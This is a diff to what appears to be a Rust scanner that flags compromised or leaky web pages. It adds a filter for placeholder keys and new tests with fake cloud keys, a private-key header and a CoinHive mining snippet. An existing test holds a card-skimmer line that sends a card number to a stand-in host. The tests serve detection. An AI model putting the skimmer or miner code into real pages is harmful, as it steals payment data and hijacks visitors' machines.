@@ -47,6 +47,7 @@ enum Part {
 enum Verify {
     Luhn,
     ChinaId,
+    NoExample,
 }
 
 /// A rule that is ready.
@@ -95,7 +96,7 @@ impl Rule {
             Part::Page => html,
             Part::Text => &page.text,
             Part::Script => {
-                scripts = page.scripts.join("\n");
+                scripts = page.code();
                 &scripts
             }
         };
@@ -105,6 +106,7 @@ impl Rule {
             let holds = match self.written.verify {
                 Some(Verify::Luhn) => luhn(found),
                 Some(Verify::ChinaId) => china_id(found),
+                Some(Verify::NoExample) => !is_example(found),
                 None => true,
             };
             if holds && different.insert(found.to_lowercase()) && shown.len() < MOST_SHOWN {
@@ -135,6 +137,13 @@ impl Rule {
         let line = if self.written.secret { middle(&line) } else { line };
         model::visible(&line).chars().take(120).collect()
     }
+}
+
+/// Whether a key is one of those that manuals show.
+fn is_example(key: &str) -> bool {
+    let lower = key.to_ascii_lowercase();
+    let words = ["example", "sample", "xxxx", "your", "placeholder", "dummy", "1234567890"];
+    words.iter().any(|word| lower.contains(word)) || key.bytes().collect::<BTreeSet<_>>().len() < 8
 }
 
 /// The check digit of card numbers.
@@ -186,13 +195,23 @@ mod tests {
         );
         check("<h1>Hacked by Somebody</h1>", &["web-defaced <h1>Hacked by"]);
         check("<p>We were not hacked by anybody last year.</p>", &[]);
-        check("<p>key AKIAIOSFODNN7EXAMPLE</p>", &["web-cloud-key AK****LE"]);
+        check("<p>key AKIA3XJ7QPLMZK42WVTR</p>", &["web-cloud-key AK****TR"]);
+        check("<p>key AKIAIOSFODNN7EXAMPLE, token ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx</p>", &[]);
+        let body = "MIIEowIBAAKCAQEAuQ1y0fH3m1bq7b0cX0k9fX2pJm1v8n0m3s5d7g9h1j2k4l6z";
+        let (begin, end) = (["-----BEGIN RSA PRIVATE", " KEY-----"].concat(), "-----END RSA PRIVATE KEY-----");
+        check(&format!("<pre>{begin}\n{body}\n{end}</pre>"), &[&format!("web-private-key {begin}")]);
+        check(&format!("<p>A key begins with <code>{begin}</code> ... and ends with <code>{end}</code>.</p>"), &[]);
         check("11010519491231002X, 440524198001010013", &["web-identity-numbers 11****2X, 44****13"]);
         check("110105194912310021, 440524198001010011", &[]);
         check("博彩 赌场 百家乐", &["web-gambling-words 博彩, 赌场, 百家乐"]);
         check("A casino in a novel", &[]);
-        let keys = "LTAI5tAbCdEfGhIjKlMnOpQr AKIAIOSFODNN7EXAMPLE akia AKIAIOSFODNN7EXAMPLE AKIAIOSFODNN7EXAMPL3 AKIAIOSFODNN7EXAMPL2";
-        check(keys, &["web-cloud-key LT****Qr, AK****LE, AK****L3 (+1)"]);
+        let keys = "LTAI5tAbCdEfGhIjKlMnOpQr AKIA3XJ7QPLMZK42WVTR akia AKIA3XJ7QPLMZK42WVTR AKIA3XJ7QPLMZK42WVT2 AKIA3XJ7QPLMZK42WVT3";
+        check(keys, &["web-cloud-key LT****Qr, AK****TR, AK****T2 (+1)"]);
+        check(
+            "<p>Pages held <code>&lt;script&gt;new CoinHive.Anonymous('k')&lt;/script&gt;</code> of coinhive.com.</p>",
+            &[],
+        );
+        check("<script>new CoinHive.Anonymous('k').start()</script>", &["web-mining-script CoinHive.Anonymous"]);
         check(
             "<script>var n=document.querySelector('#card_number').value; navigator.sendBeacon('https://x.invalid/c', n)</script>",
             &["web-skimmer card_number').value; navigator.sendBeacon("],
